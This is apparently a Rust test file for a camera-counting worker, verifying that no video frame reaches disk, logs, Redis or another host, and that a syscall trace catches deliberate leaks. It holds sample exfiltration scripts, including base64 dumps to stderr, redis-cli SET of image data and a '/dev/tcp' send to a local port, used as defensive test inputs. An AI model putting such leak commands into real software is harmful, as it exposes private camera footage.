//! No picture leaves the worker: what it gives to the kernel is looked at, call by call, while it reads films and a camera, and
//! what lies in Redis afterwards is read. And the looking itself is proved: a worker that does write a picture is caught.

mod office;

use std::fs::Permissions;
use std::os::unix::fs::PermissionsExt as _;
use std::panic::{AssertUnwindSafe, catch_unwind};
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Instant;

use office::{LIMIT, LOG, Office, TEXT, TO_REDIS, look_again, socket};
use opencv::core::{self, Mat, Rect, Scalar, Size};
use opencv::prelude::VideoWriterTrait as _;
use opencv::videoio::VideoWriter;
use opencv::{imgcodecs, imgproc};
use protocol::congestion::CameraReport;
use store::private::{PrivateRedis, Purpose};
use test_camera::Camera;
use test_trace::{Allowed, Report, Trace};

/// What one telling of an area and its cameras takes at most: an observation (some 340 bytes) and reports (some 250 each).
const BYTES_A_TELLING: u64 = 900;
/// Redis is told the script, and who asks, once.
const BYTES_AT_THE_START: u64 = 8_000;

/// Somebody goes to and fro on a pavement, before two bays of a car park.
fn film(to: &Path) {
    let fourcc = VideoWriter::fourcc('M', 'J', 'P', 'G').expect("fourcc");
    let path = to.to_str().expect("a path");
    let mut writer = VideoWriter::new_def(path, fourcc, 10.0, Size::new(320, 240)).expect("a writer");
    for frame in 0..60 {
        writer.write(&picture(frame)).expect("written");
    }
    writer.release().expect("released");
}

fn picture(frame: i32) -> Mat {
    let mut picture = Mat::new_rows_cols_with_default(240, 320, core::CV_8UC3, Scalar::all(120.0)).expect("a picture");
    let mut fill = |rect, grey: f64| {
        imgproc::rectangle(
            &mut picture,
            rect,
            Scalar::all(grey),
            imgproc::FILLED,
            imgproc::LINE_8,
            0,
        )
        .expect("drawn");
    };
    for stone in (0..320).step_by(40) {
        fill(Rect::new(stone, 0, 20, 240), 150.0);
    }
    fill(Rect::new(20 + frame * 4, 100, 24, 80), 30.0);
    picture
}

fn text(dir: &Path, camera: &Camera) -> String {
    let film = dir.join("film.avi");
    TEXT.replace("SOURCE", &camera.url())
        + &format!(
            "[[area]]\nid = \"lot\"\nname = {{ ja = \"駐車場\" }}\ncapacity = 4\nmoderate_from = 2\nbusy_from = 3\n\
             [[camera]]\nid = \"door\"\narea = \"square\"\nsource = {film:?}\nrole = \"entrance\"\n\
             line = [[0.5, 1.0], [0.5, 0.3]]\nperson_heights = [[0.3, 0.3], [0.9, 0.4]]\n\
             [[camera]]\nid = \"lot\"\narea = \"lot\"\nsource = {film:?}\nrole = \"parking\"\nframes_per_second = 5.0\n\
             [[camera.bay]]\nid = \"1\"\npolygon = [[0.1, 0.1], [0.4, 0.1], [0.4, 0.4], [0.1, 0.4]]\n\
             [[camera.bay]]\nid = \"2\"\npolygon = [[0.6, 0.1], [0.9, 0.1], [0.9, 0.4], [0.6, 0.4]]\n"
        )
}

/// Asks Redis, gives its lines.
fn ask(office: &Office, words: &[&str]) -> Vec<String> {
    let said = Command::new("redis-cli")
        .args(["-s", &socket(&office.redis).to_string_lossy()])
        .args(words)
        .output();
    let said = String::from_utf8(said.expect("redis-cli").stdout).expect("text");
    said.lines().map(str::to_owned).collect()
}

/// All that lies in Redis is numbers under known names.
fn assert_only_numbers(office: &Office) {
    let keys = ask(office, &["KEYS", "*"]);
    assert!(keys.len() >= 9, "{keys:?}");
    for key in keys {
        match key.rsplit(':').next().unwrap_or_default() {
            "observations" => {
                // An entry's id, then names and values.
                for entry in ask(office, &["XRANGE", &key, "-", "+"]).chunks(7) {
                    let [_, source, by, at, when, count, number] = entry else {
                        panic!("{key}: {entry:?}")
                    };
                    assert_eq!([source, at, count], ["source", "at", "count"], "{key}");
                    assert!(by.len() <= 40 && when.parse::<u64>().is_ok(), "{key}: {entry:?}");
                    assert!(number.is_empty() || number.parse::<u32>().is_ok(), "{key}: {entry:?}");
                }
            }
            "sources" | "state" => {
                let fields = ask(office, &["HGETALL", &key]);
                assert!(fields.iter().all(|field| field.len() <= 40), "{key}: {fields:?}");
            }
            _ => {
                let json = ask(office, &["GET", &key]).concat();
                let report: CameraReport = serde_json::from_str(&json).expect("a camera's report");
                assert_eq!(
                    serde_json::to_string(&report).expect("json"),
                    json,
                    "{key}: and nothing else"
                );
            }
        }
    }
}

#[tokio::test]
async fn no_picture_reaches_a_disk_a_log_or_redis() {
    let camera = Camera::start(None).expect("a camera");
    let dir = tempfile::tempdir().expect("temp");
    film(&dir.path().join("film.avi"));
    let mut office = Office::with(&text(dir.path(), &camera)).await;
    office.allow_camera(camera.address());
    office.start_vision();
    // Each camera has counted many a picture.
    let end = Instant::now() + LIMIT;
    for id in ["north", "door", "lot"] {
        let id = protocol::ids::CameraId::new(id).expect("valid");
        loop {
            let report = store::cameras::last_report(&office.store.live, &office.config.office.id, &id).await;
            if report.is_ok_and(|report| report.is_some_and(|report| report.frames_counted >= 20)) {
                break;
            }
            assert!(Instant::now() < end, "{id} counts nothing; log: {}", office.log());
            look_again().await;
        }
    }
    assert_only_numbers(&office);
    let dumpable = core_dumps_of(office.vision.as_ref().expect("running").id());
    let (code, report) = office.end_and_report().await;
    assert_eq!(code, Some(0));
    assert!(
        dumpable.len() > 3 && dumpable.iter().all(|limit| limit == "0"),
        "core dumps are off: {dumpable:?}"
    );
    let told = tellings(&office);
    assert!(told >= 4, "{told} observations");
    let Some(report) = report else { return };
    println!("{} calls, bytes {:?}, {told} observations", report.calls, report.bytes);
    let most = BYTES_AT_THE_START + told * BYTES_A_TELLING;
    assert!((1..=most).contains(&report.bytes["redis"]), "{most}: {report:?}");
    // Pictures did go by pipe: the trace has seen them, and would have seen them elsewhere.
    assert!(report.bytes["pipe"] > 60 * 320 * 240 * 3, "{report:?}");
    assert!(report.bytes.keys().any(|file| file.ends_with("/log")), "{report:?}");
}

/// How many times areas were told, by their streams.
fn tellings(office: &Office) -> u64 {
    let keys = ask(office, &["KEYS", "*:observations"]);
    keys.iter()
        .map(|key| ask(office, &["XLEN", key]).concat().parse::<u64>().expect("a number"))
        .sum()
}

/// The processes that a process has started, whichever of its threads did.
fn children(of: u32) -> Vec<u32> {
    let threads = std::fs::read_dir(format!("/proc/{of}/task")).into_iter().flatten();
    let texts = threads.flatten().map(|thread| thread.path().join("children"));
    texts
        .flat_map(|children| {
            let text = std::fs::read_to_string(children).unwrap_or_default();
            text.split_whitespace()
                .filter_map(|pid| pid.parse().ok())
                .collect::<Vec<u32>>()
        })
        .collect()
}

/// The limit of core dumps of a process and of all that it has started, in its children's children too.
fn core_dumps_of(pid: u32) -> Vec<String> {
    let text = std::fs::read_to_string(format!("/proc/{pid}/limits")).expect("limits");
    let line = text
        .lines()
        .find(|line| line.starts_with("Max core file size"))
        .expect("a limit");
    let mut limits = vec![line.split_whitespace().nth(4).expect("a number").to_owned()];
    for child in children(pid) {
        limits.append(&mut core_dumps_of(child));
    }
    limits
}

/// Runs a program that does what the worker must not do, and judges it by the worker's rules.
fn caught(dir: &Path, redis: &Path, script: &str) -> Report {
    let log = dir.join("log");
    let mut trace = Trace::new(Allowed {
        texts: vec![(log.clone(), LOG)],
        redis: vec![redis.to_owned()],
        to_redis: TO_REDIS,
        ..Allowed::default()
    });
    let status = Command::new(trace.of("/bin/sh"))
        .args(["-c", script])
        .current_dir(dir)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(std::fs::File::create(&log).expect("log"))
        .status();
    assert!(status.expect("started").success(), "{script}");
    trace.report().expect("strace is there")
}

#[test]
fn a_program_that_does_write_a_picture_is_caught() {
    if !test_trace::is_there() {
        return;
    }
    let dir = tempfile::tempdir().expect("temp");
    let redis = PrivateRedis::start(Purpose::Live, dir.path()).expect("redis-server");
    for name in ["picture.jpg", "picture.png", "picture.bmp"] {
        let file = dir.path().join(name);
        imgcodecs::imwrite_def(file.to_str().expect("a path"), &picture(3)).expect("written");
    }
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = listener.local_addr().expect("an address").port();
    let redis = socket(&redis);
    let to_redis = format!("redis-cli -s {}", redis.display());
    let harmless = caught(dir.path(), &redis, "echo counted 3 people >&2");
    assert!(
        harmless.faults.is_empty() && harmless.bytes.values().sum::<u64>() == 17,
        "{harmless:?}"
    );
    for (what, script) in [
        ("a file", "cat picture.jpg > copy.jpg".to_owned()),
        (
            "a file in memory",
            "cat picture.jpg > /dev/shm/madoguchi-leak; rm /dev/shm/madoguchi-leak".to_owned(),
        ),
        ("the log", "cat picture.jpg >&2".to_owned()),
        ("the log, as letters", "base64 picture.bmp >&2".to_owned()),
        ("the log, few letters", "base64 -w 0 picture.png >&2".to_owned()),
        ("Redis", format!("{to_redis} -x SET crop < picture.jpg")),
        (
            "Redis, as letters",
            format!("base64 -w 0 picture.bmp | {to_redis} -x SET crop"),
        ),
        (
            "Redis, few letters",
            format!("base64 -w 0 picture.png | {to_redis} -x SET crop"),
        ),
        (
            "another server",
            format!("exec bash -c 'cat picture.jpg > /dev/tcp/127.0.0.1/{port}'"),
        ),
    ] {
        let report = caught(dir.path(), &redis, &script);
        assert!(!report.faults.is_empty(), "{what}: {:?}", report.bytes);
    }
}

/// An office whose worker does something before it begins to work. Gives how its test would end.
async fn worker_that_first(does: &str) -> std::thread::Result<()> {
    let mut office = Office::new("film.avi").await;
    let dir = office.dir.path();
    film(&dir.join("film.avi"));
    let worker = dir.join("worker.sh");
    let does = does
        .replace("DIR", &dir.to_string_lossy())
        .replace("REDIS", &socket(&office.redis).to_string_lossy());
    let script = format!("#!/bin/sh\n{does}\nexec '{}' \"$@\"\n", office.program.display());
    std::fs::write(&worker, script).expect("written");
    std::fs::set_permissions(&worker, Permissions::from_mode(0o755)).expect("set");
    office.program = worker;
    office.start_vision();
    office
        .wait_for_report("it counts all the same", |report| report.frames_counted > 0)
        .await;
    catch_unwind(AssertUnwindSafe(|| drop(office)))
}

#[tokio::test]
async fn the_test_of_a_worker_that_leaks_fails_by_itself() {
    if !test_trace::is_there() {
        return;
    }
    assert!(worker_that_first("true").await.is_ok(), "an honest one passes");
    for leak in [
        "head -c 9000 DIR/film.avi > DIR/crop",
        "head -c 9000 DIR/film.avi >&2",
        "head -c 90000 DIR/film.avi | base64 -w 0 >&2",
        "head -c 9000 DIR/film.avi | redis-cli -s REDIS -x SET crop > /dev/null",
    ] {
        let failed = worker_that_first(leak).await.expect_err(leak);
        let why = failed.downcast_ref::<String>().expect("a sentence");
        assert!(why.contains("a picture could have left"), "{leak}: {why}");
    }
}
